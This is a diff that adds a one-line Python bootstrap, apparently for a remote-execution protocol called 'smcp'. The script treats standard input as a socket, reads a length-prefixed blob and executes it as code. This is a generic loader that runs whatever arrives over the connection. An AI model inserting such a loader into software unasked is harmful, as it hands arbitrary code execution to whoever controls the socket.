@@ -1,0 +1,1 @@
+import _socket;control=_socket.socket(fileno=0);read=lambda n:control.recv(n,_socket.MSG_WAITALL);exec(compile(read(int.from_bytes(read(4),"little")),"<smcp>","exec"),{"__name__":"smcp","control":control})
